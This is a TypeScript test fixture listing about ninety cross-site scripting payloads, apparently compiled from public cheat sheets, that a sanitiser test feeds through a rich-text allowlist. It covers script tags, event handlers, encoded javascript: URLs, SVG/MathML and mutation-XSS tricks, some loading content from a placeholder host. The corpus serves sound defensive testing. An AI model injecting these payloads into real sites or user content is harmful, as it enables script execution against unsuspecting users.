/**
 * Cross-site scripting payloads the rich text allowlist must defuse (at least 50).
 * Gathered from the OWASP filter evasion cheat sheet, the PortSwigger XSS cheat sheet and
 * published mutation-XSS (mXSS) bypasses of HTML sanitisers. sanitize.test.ts runs each through
 * sanitizeRichText: nothing may survive that runs script, loads another page's frame or styles
 * the page, and the output must be a fixed point.
 */
export const XSS_CORPUS: readonly { name: string; html: string }[] = [
  // Script elements, in every spelling.
  { name: 'script tag', html: '<script>alert(1)</script>' },
  { name: 'script tag, upper case', html: '<SCRIPT>alert(1)</SCRIPT>' },
  { name: 'script tag, mixed case', html: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'script with src', html: '<script src="https://evil.example/x.js"></script>' },
  { name: 'script, unclosed', html: '<p>hello<script>alert(1)' },
  { name: 'script split by nesting', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  {
    name: 'script with slash attribute',
    html: '<script/xss src="https://evil.example/x.js"></script>',
  },
  {
    name: 'script in a table cell',
    html: '<table><tr><td><script>alert(1)</script></td></tr></table>',
  },
  { name: 'escaped script stays text', html: '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>' },

  // Event handlers.
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  {
    name: 'img onerror on an allowed image',
    html: '<img src="/lesson-images/a.svg" alt="a" onerror="alert(1)">',
  },
  {
    name: 'img ONERROR upper case',
    html: '<IMG SRC="/lesson-images/a.svg" ALT="a" ONERROR="alert(1)">',
  },
  { name: 'body onload', html: '<body onload=alert(1)><p>x</p></body>' },
  { name: 'p onmouseover', html: '<p onmouseover="alert(1)">hover</p>' },
  { name: 'a onclick', html: '<a href="https://example.com" onclick="alert(1)">x</a>' },
  { name: 'input onfocus autofocus', html: '<input onfocus=alert(1) autofocus>' },
  {
    name: 'details ontoggle',
    html: '<details open ontoggle=alert(1)><summary>x</summary></details>',
  },
  {
    name: 'handler after slash',
    html: '<img/src="/lesson-images/a.svg"/alt="a"/onerror=alert(1)>',
  },
  { name: 'handler with backticks', html: '<img src=`x` onerror=`alert(1)`>' },
  {
    name: 'handler with newline before it',
    html: '<img src="/lesson-images/a.svg" alt="a"\nonerror=alert(1)>',
  },
  { name: 'img src=x:alert(alt)', html: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { name: 'video onerror', html: '<video><source onerror="alert(1)"></video>' },
  { name: 'audio onerror', html: '<audio src=x onerror=alert(1)>' },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>x</marquee>' },
  {
    name: 'table background',
    html: '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  },

  // javascript:, vbscript: and data: URLs, plain and disguised.
  { name: 'javascript: link', html: '<a href="javascript:alert(1)">x</a>' },
  { name: 'JAVASCRIPT: upper case', html: '<a href="JAVASCRIPT:alert(1)">x</a>' },
  { name: 'javascript: with leading spaces', html: '<a href="  javascript:alert(1)">x</a>' },
  { name: 'javascript: with a tab entity', html: '<a href="java&#x09;script:alert(1)">x</a>' },
  { name: 'javascript: with a newline entity', html: '<a href="java&#10;script:alert(1)">x</a>' },
  { name: 'javascript: with a raw tab', html: '<a href="java\tscript:alert(1)">x</a>' },
  {
    name: 'javascript: entity-encoded',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  },
  {
    name: 'javascript: hex entities without semicolons',
    html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  },
  { name: 'javascript: named entity colon', html: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'javascript: control character prefix', html: '<a href="&#1;javascript:alert(1)">x</a>' },
  { name: 'vbscript: link', html: '<a href="vbscript:msgbox(1)">x</a>' },
  {
    name: 'data: link',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  },
  {
    name: 'data: image',
    html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="a">',
  },
  { name: 'javascript: image', html: '<img src="javascript:alert(1)" alt="a">' },
  { name: 'protocol-relative image', html: '<img src="//evil.example/a.png" alt="a">' },
  { name: 'protocol-relative link', html: '<a href="//evil.example">x</a>' },
  { name: 'backslash link', html: '<a href="/\\evil.example">x</a>' },
  {
    name: 'relative image outside the image paths',
    html: '<img src="/api/v1/accounts/me" alt="a">',
  },

  // SVG and MathML.
  { name: 'svg onload', html: '<svg onload=alert(1)>' },
  { name: 'svg script', html: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'svg animate href',
    html: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
  },
  {
    name: 'svg use data: href',
    html: '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  },
  { name: 'svg style mutation', html: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  {
    name: 'svg foreignObject',
    html: '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  },
  {
    name: 'math link',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  },
  {
    name: 'math mglyph style mutation',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  { name: 'math href', html: '<math href="javascript:alert(1)">x</math>' },

  // Style.
  { name: 'style tag', html: '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>' },
  { name: 'style attribute expression()', html: '<p style="width: expression(alert(1))">x</p>' },
  {
    name: 'style attribute url(javascript:)',
    html: '<p style="background:url(javascript:alert(1))">x</p>',
  },
  {
    name: 'style attribute on an allowed cell',
    html: '<table><tr><td style="background-image:url(x)">x</td></tr></table>',
  },
  { name: 'link stylesheet', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },

  // Frames, objects, embeds from other hosts; srcdoc.
  { name: 'iframe of another host', html: '<iframe src="https://evil.example/embed/x"></iframe>' },
  { name: 'iframe javascript:', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  {
    name: 'allowed iframe with srcdoc and handler',
    html: '<iframe src="https://www.youtube-nocookie.com/embed/abc123" srcdoc="<script>alert(1)</script>" onload="alert(1)" title="v"></iframe>',
  },
  {
    name: 'iframe look-alike host',
    html: '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  },
  {
    name: 'iframe with credentials',
    html: '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  },
  {
    name: 'iframe of an allowed host, other path',
    html: '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
  },
  { name: 'frameset', html: '<frameset><frame src="javascript:alert(1)"></frameset>' },
  { name: 'object data', html: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed src', html: '<embed src="https://evil.example/x.swf">' },

  // Page-level elements, forms.
  { name: 'base href', html: '<base href="https://evil.example/"><a href="/x">x</a>' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'form action', html: '<form action="javascript:alert(1)"><button>x</button></form>' },
  { name: 'button formaction', html: '<button formaction="javascript:alert(1)">x</button>' },
  { name: 'input image', html: '<input type="image" src="x" onerror="alert(1)">' },
  { name: 'isindex action', html: '<isindex action="javascript:alert(1)" type="submit">' },

  // Parser differentials and mutation XSS.
  { name: 'template', html: '<template><img src=x onerror=alert(1)></template>' },
  {
    name: 'noscript mutation',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  {
    name: 'noembed mutation',
    html: '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  },
  {
    name: 'textarea mutation',
    html: '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  },
  {
    name: 'title mutation',
    html: '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  },
  { name: 'xmp mutation', html: '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>' },
  { name: 'comment trick', html: '<!--><img src=x onerror=alert(1)>-->' },
  {
    name: 'comment with a closing in an attribute',
    html: '<!-- <img title="--><img src=x onerror=alert(1)>"> -->',
  },
  { name: 'CDATA', html: '<![CDATA[<img src=x onerror=alert(1)>]]>' },
  { name: 'CDATA in svg', html: '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>' },
  {
    name: 'unclosed attribute',
    html: '<img src="/lesson-images/a.svg" alt="x><script>alert(1)</script>',
  },
  { name: 'unclosed tag', html: '<img src=x onerror=alert(1)//' },
  {
    name: 'nested quotes',
    html: '<a href="https://example.com" title=\'"><script>alert(1)</script>\'>x</a>',
  },
  {
    name: 'form in a table mutation',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  },
  {
    name: 'select style mutation',
    html: '<select><style><img src=x onerror=alert(1)></style></select>',
  },
  { name: 'double-encoded link', html: '<a href="&amp;#106;avascript:alert(1)">x</a>' },
];
